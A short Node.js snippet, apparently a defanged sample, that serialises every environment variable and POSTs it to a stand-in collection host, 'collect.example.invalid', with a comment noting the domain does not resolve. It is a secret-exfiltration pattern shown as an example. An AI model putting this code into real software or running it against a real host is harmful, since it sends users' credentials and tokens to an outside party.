const https = require('https');

// Defanged: example.invalid does not resolve.
const data = JSON.stringify(process.env);
const req = https.request({ hostname: 'collect.example.invalid', path: '/e', method: 'POST' });
req.write(data);
req.end();
